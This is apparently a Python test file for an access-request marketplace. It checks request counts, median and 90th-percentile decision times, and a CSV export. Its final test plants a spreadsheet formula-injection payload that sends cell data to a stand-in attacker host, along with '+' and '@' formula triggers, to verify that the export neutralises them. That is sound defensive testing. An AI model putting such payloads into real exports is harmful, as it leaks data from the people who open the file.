"""An organisation's request figures, with the timeline's times set by the test: open requests,
decisions and median and 90th-percentile days to decision over the last 90 days; and its CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from marketplace.extensions import db
from marketplace.models.types import utcnow
from marketplace.services import access_requests as service
from marketplace.services.access_request_figures import (
    CSV_HEADINGS,
    WINDOW_DAYS,
    access_request_rows,
    summarise_access_requests,
)
from marketplace.spreadsheet_cells import csv_writer
from tests.access_request_factories import World, complete_answers, create_request, create_world


@pytest.fixture
def world(app) -> World:
    return create_world()


def _decided(world: World, status: str, *, submitted_days_ago: float, decided_days_ago: float):
    """A request decided `status`, submitted and decided that many days ago."""
    access_request = create_request(world, status)
    now = utcnow()
    for event in access_request.events:
        if event.to_status == "submitted":
            event.at = now - timedelta(days=submitted_days_ago)
        elif event.to_status == "in_review":
            event.at = now - timedelta(days=(submitted_days_ago + decided_days_ago) / 2)
        else:
            event.at = now - timedelta(days=decided_days_ago)
    access_request.submitted_at = access_request.first_submitted_at = now - timedelta(days=submitted_days_ago)
    access_request.decided_at = now - timedelta(days=decided_days_ago)
    db.session.commit()
    return access_request


def test_days_to_decision_are_the_median_and_90th_percentile_of_the_windows_decisions(world):
    for days in range(1, 11):  # decided 5 days ago, after 1 to 10 days
        _decided(world, "accepted", submitted_days_ago=5 + days, decided_days_ago=5)
    summary = summarise_access_requests(world.actor(world.reviewer), world.owner)
    assert summary["window_days"] == WINDOW_DAYS == 90
    assert summary["decisions"] == {"accepted": 10, "rejected": 0, "returned": 0}
    # Nearest rank: the 5th and the 9th of ten, values that happened.
    assert summary["days_to_decision"] == {"count": 10, "median": 5.0, "p90": 9.0}


def test_decisions_before_the_window_are_left_out_and_open_requests_counted_now(world):
    _decided(world, "rejected", submitted_days_ago=120, decided_days_ago=WINDOW_DAYS + 1)
    _decided(world, "rejected", submitted_days_ago=92, decided_days_ago=WINDOW_DAYS - 1)
    _decided(world, "accepted", submitted_days_ago=3.5, decided_days_ago=1)
    create_request(world, "submitted")
    create_request(world, "in_review")
    create_request(world, "in_review")
    create_request(world, "draft")  # the organisation has not seen it: not counted
    summary = summarise_access_requests(world.actor(world.org_admin), world.owner)
    assert (summary["open"], summary["submitted"], summary["in_review"]) == (3, 1, 2)
    assert summary["decisions"] == {"accepted": 1, "rejected": 1, "returned": 0}
    assert summary["days_to_decision"] == {"count": 2, "median": 2.5, "p90": 3.0}


def test_a_request_returned_and_resubmitted_counts_each_decision_from_its_own_submission(world):
    access_request = _decided(world, "returned", submitted_days_ago=30, decided_days_ago=20)
    requester, reviewer = world.actor(world.requester), world.actor(world.reviewer)
    service.update_answers(
        requester,
        access_request,
        {},
        completed_sections=[*access_request.completed_sections, "purpose"],
    )
    service.transition_access_request(requester, access_request, "submitted", declaration=True)
    service.transition_access_request(reviewer, access_request, "in_review")
    service.transition_access_request(reviewer, access_request, "accepted")
    now = utcnow()
    access_request.events[-3].at = now - timedelta(days=10)  # resubmitted
    access_request.events[-1].at = now - timedelta(days=6)  # accepted
    db.session.commit()
    summary = summarise_access_requests(world.actor(world.reviewer), world.owner)
    assert summary["decisions"] == {"accepted": 1, "rejected": 0, "returned": 1}
    assert summary["days_to_decision"] == {"count": 2, "median": 4.0, "p90": 10.0}


def test_no_decisions_give_no_days_rather_than_zero(world):
    create_request(world, "submitted")
    summary = summarise_access_requests(world.actor(world.reviewer), world.owner)
    assert summary["days_to_decision"] == {"count": 0, "median": None, "p90": None}


def test_the_csv_rows_hold_each_submitted_request_with_formulas_neutralised(world):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    answers = {**complete_answers(), "purpose": formula, "format": "+CSV", "benefits": "@SUM(1,1)"}
    _decided(world, "accepted", submitted_days_ago=4, decided_days_ago=1)
    create_request(world, "submitted", answers=answers)
    create_request(world, "draft")
    out = io.StringIO()
    csv_writer(out).writerows(access_request_rows(world.actor(world.reviewer), world.owner))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0]) == list(CSV_HEADINGS)
    assert [row["status"] for row in rows] == ["accepted", "submitted"]
    assert rows[0]["days_to_decision"] == "3.0"
    assert rows[1]["purpose"] == "'" + formula
    assert rows[1]["format"] == "'+CSV" and rows[1]["benefits"] == "'@SUM(1,1)"
    assert rows[1]["personal_data"] == "no"
    assert rows[1]["requesting_organisation"] == world.other.title
